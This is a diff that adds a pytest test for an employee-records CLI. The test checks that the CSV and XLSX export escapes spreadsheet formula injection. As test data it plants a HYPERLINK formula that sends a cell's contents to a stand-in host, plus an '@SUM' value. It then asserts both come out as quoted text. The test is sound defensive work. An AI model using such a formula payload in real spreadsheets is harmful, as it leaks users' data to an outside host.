@@ -130,3 +130,25 @@ def test_run_refuses_an_unknown_profile_with_the_valid_names(env, capsys, monkey
     code, _, err = run(capsys, "run")
     assert code == 2
     assert "Tidak ada profil peraturan “atlantis”" in err and ", ".join(profile_names()) in err
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
+def test_link_codes_file_never_carries_a_live_formula(env, capsys, tmp_path, suffix):
+    """A name that reached the database before imports refused formulas goes out as text."""
+    run(capsys, "import", "units", SAMPLES / "units.csv")
+    run(capsys, "import", "employees", SAMPLES / "employees.csv")
+    evil = '=HYPERLINK("http://x.example/?"&A1,"klik")'
+    with sqlite3.connect(env.removeprefix("sqlite:///")) as db:
+        db.execute("UPDATE employees SET name = ? WHERE nip = '199702112022031015'", (evil,))
+        db.execute("UPDATE units SET name = '@SUM(1+1)' WHERE code = 'PKM.SUKAMAJU'")
+    out_file = tmp_path / f"kode.{suffix}"
+    assert run(capsys, "link-codes", "--out", out_file)[0] == 0
+    if suffix == "csv":
+        rows = list(csv.reader(out_file.open()))
+    else:
+        sheet = load_workbook(out_file).active
+        assert {c.data_type for row in sheet.iter_rows() for c in row} == {"s"}
+        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
+    assert not any(str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    assert {r[0]: r[1] for r in rows}["199702112022031015"] == "'" + evil
+    assert "'@SUM(1+1)" in {r[2] for r in rows}
